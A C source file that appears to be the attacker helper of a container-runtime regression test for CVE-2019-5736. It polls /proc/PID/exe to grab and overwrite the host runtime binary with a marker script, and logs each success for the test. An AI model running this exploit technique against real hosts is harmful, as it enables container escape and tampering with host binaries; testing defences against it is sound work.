/* SPDX-License-Identifier: Apache-2.0 */
/*
 * exe-attacker REPORT_DIR DEV:INO [SECONDS]: the malicious process of the
 * CVE-2019-5736 test.  It runs (statically linked) as the init of a
 * container A whose pid namespace other containers join, and for SECONDS
 * (default 300) or until REPORT_DIR/stop exists it polls every process it
 * can see, trying to get hold of the runtime's binary, the file DEV:INO
 * (st_dev and st_ino as the host sees them), through /proc/PID/exe:
 *
 *   - open(O_WRONLY) of /proc/PID/exe directly (ETXTBSY while it runs);
 *   - open(O_PATH) and open(O_RDONLY), keeping every fd that turns out to
 *     be the binary, and reopening /proc/self/fd/N for writing on each
 *     round: that succeeds as soon as no process runs the binary any more,
 *     after the runtime has exited (the attack of the CVE);
 *
 * Every success is one line appended to REPORT_DIR/hits (and the file is
 * written to, so that the test's checksum sees it too).  At the end
 * REPORT_DIR/summary holds counters that show the attack had its chances:
 * "rounds=R pids=P denied=D" (P distinct foreign pids seen, D refusals
 * of /proc/PID/exe, i.e. processes that were protected when polled).
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#define MAX_KEPT 256
#define MAX_PIDS 65536

static int report_dir = -1;
static dev_t target_dev;
static ino_t target_ino;

static void hit(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static void hit(const char *fmt, ...)
{
	char line[256];
	va_list ap;
	int fd, n;

	va_start(ap, fmt);
	n = vsnprintf(line, sizeof(line) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof(line) - 2)
		n = (int)sizeof(line) - 2;
	line[n++] = '\n';
	fd = openat(report_dir, "hits", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0) {
		if (write(fd, line, (size_t)n) < 0)
			perror("exe-attacker: write hits");
		close(fd);
	}
	fputs(line, stderr);
}

static int is_target(int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 && st.st_dev == target_dev && st.st_ino == target_ino;
}

/* What a successful write does: prove it in the file itself. */
static void overwrite(int fd, const char *how, int pid)
{
	static const char mark[] = "#!/bin/sh\necho pwned by exe-attacker\n";

	hit("%s: opened the runtime binary of pid %d for writing", how, pid);
	if (pwrite(fd, mark, sizeof(mark) - 1, 0) == (ssize_t)sizeof(mark) - 1)
		hit("%s: wrote into the runtime binary of pid %d", how, pid);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	static unsigned char seen[MAX_PIDS / 8], kept_pid[MAX_PIDS / 8];
	struct {
		int fd;
		int pid;
	} kept[MAX_KEPT];
	unsigned long rounds = 0, pids = 0, denied = 0, opened = 0;
	unsigned long long dev_ll, ino_ll;
	double deadline;
	int n_kept = 0, self = getpid();
	char buf[64];
	FILE *f;
	int fd;

	if (argc < 3 || sscanf(argv[2], "%llu:%llu", &dev_ll, &ino_ll) != 2) {
		fprintf(stderr, "usage: exe-attacker REPORT_DIR DEV:INO [SECONDS]\n");
		return 2;
	}
	target_dev = (dev_t)dev_ll;
	target_ino = (ino_t)ino_ll;
	deadline = now() + (argc > 3 ? atof(argv[3]) : 300.0);
	report_dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (report_dir < 0) {
		perror("exe-attacker: open the report dir");
		return 1;
	}
	/* the test waits for this file before it starts the victims */
	fd = openat(report_dir, "ready", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0)
		close(fd);

	while (faccessat(report_dir, "stop", F_OK, 0) < 0 && now() < deadline) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		rounds++;
		while (d && (de = readdir(d))) {
			char path[64];
			int pid;

			if (!isdigit((unsigned char)de->d_name[0]))
				continue;
			pid = atoi(de->d_name);
			if (pid == self)
				continue;
			if (pid < MAX_PIDS && !(seen[pid / 8] & (1 << (pid % 8)))) {
				seen[pid / 8] |= (unsigned char)(1 << (pid % 8));
				pids++;
			}
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0) {
				if (is_target(fd))
					overwrite(fd, "direct open", pid);
				close(fd);
			}
			for (int k = 0; k < 2; k++) {
				fd = open(path, (k ? O_RDONLY : O_PATH) | O_CLOEXEC);
				if (fd < 0) {
					if (errno == EACCES || errno == EPERM)
						denied++;
					continue;
				}
				/* one fd per process is all the attack needs */
				if (!is_target(fd) || n_kept == MAX_KEPT ||
				    (pid < MAX_PIDS && (kept_pid[pid / 8] & (1 << (pid % 8))))) {
					close(fd);
					continue;
				}
				opened++;
				if (pid < MAX_PIDS)
					kept_pid[pid / 8] |= (unsigned char)(1 << (pid % 8));
				hit("%s: got an fd of the runtime binary of pid %d",
				    k ? "O_RDONLY" : "O_PATH", pid);
				kept[n_kept].fd = fd;
				kept[n_kept].pid = pid;
				n_kept++;
			}
		}
		if (d)
			closedir(d);
		/* once the runtime has exited, nothing keeps the file busy */
		for (int i = 0; i < n_kept; i++) {
			if (kept[i].fd < 0)
				continue;
			snprintf(buf, sizeof(buf), "/proc/self/fd/%d", kept[i].fd);
			fd = open(buf, O_WRONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			overwrite(fd, "reopen", kept[i].pid);
			close(fd);
			close(kept[i].fd);
			kept[i].fd = -1;
		}
		sched_yield();
	}

	fd = openat(report_dir, "summary.tmp", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	f = fd < 0 ? NULL : fdopen(fd, "w");
	if (!f)
		return 1;
	fprintf(f, "rounds=%lu pids=%lu denied=%lu opened=%lu\n", rounds, pids, denied, opened);
	if (fclose(f) != 0)
		return 1;
	return renameat(report_dir, "summary.tmp", report_dir, "summary") < 0;
}
